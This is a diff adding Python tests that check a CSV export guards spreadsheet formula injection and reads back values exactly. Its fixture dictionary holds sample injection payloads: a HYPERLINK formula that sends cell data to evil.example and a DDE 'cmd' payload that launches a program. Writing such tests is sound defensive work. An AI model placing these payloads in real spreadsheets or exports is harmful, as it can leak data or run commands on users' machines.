@@ -3,6 +3,7 @@ for every kind of bad row (nothing is dropped silently)."""
 
 from __future__ import annotations
 
+import csv
 from pathlib import Path
 
 import pandas as pd
@@ -111,3 +112,47 @@ def test_write_then_read_gives_the_same_log(tmp_path: Path) -> None:
     )
     assert again is not None
     pd.testing.assert_frame_equal(log, again)
+
+
+HOSTILE = {
+    "client_id": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "reviewer": "=cmd|' /C calc'!A0",
+    "label": "+SUM(1,2)",
+    "ai_value": "-2+3",
+    "final_value": "@SUM(A1)",
+    "reason_code": "\tcode",
+    "decision_id": "'quoted",  # genuinely starts with the guard character
+    "checkpoint": "'=already-guarded",
+}
+
+
+def test_export_neutralises_formulas_and_reads_back_losslessly(tmp_path: Path) -> None:
+    """Text that a spreadsheet would run gets a leading quote in the file; our reader removes
+    exactly that quote, so the round trip is exact, and numeric cells stay plain numbers."""
+    log = read_decision_csv(_write(tmp_path, GOOD))
+    for column, value in HOSTILE.items():
+        log.loc[1, column] = value
+    log.loc[0, "client_id"] = "'plain"  # a quote before ordinary text
+    path = tmp_path / "export.csv"
+    write_decision_csv(log, path)
+    with path.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    for column, value in HOSTILE.items():
+        assert rows[1][column] == "'" + value, column
+    assert rows[0]["client_id"] == "''plain"
+    assert rows[1]["confidence"] == "0.91" and rows[1]["threshold"] == "0.8"
+    again = read_decision_csv(path)
+    pd.testing.assert_frame_equal(log, again)
+    assert again.loc[1, "reviewer"] == HOSTILE["reviewer"] and again.loc[0, "client_id"] == "'plain"
+    log["confidence"] = -0.5  # numeric columns are never guarded, even where a minus sign leads
+    write_decision_csv(log, tmp_path / "numbers.csv")
+    with (tmp_path / "numbers.csv").open(newline="", encoding="utf-8") as handle:
+        assert {row["confidence"] for row in csv.DictReader(handle)} == {"-0.5"}
+
+
+def test_a_quote_from_another_system_is_kept_unless_it_guards_a_formula(tmp_path: Path) -> None:
+    rows = [
+        "d1,triage,network,0.93,auto,0.05,network,,,'o'brien,2026-11-02T10:00:00Z,'-acme,0.8",
+    ]
+    log = read_decision_csv(_write(tmp_path, rows))
+    assert log.loc[0, "reviewer"] == "'o'brien" and log.loc[0, "client_id"] == "-acme"
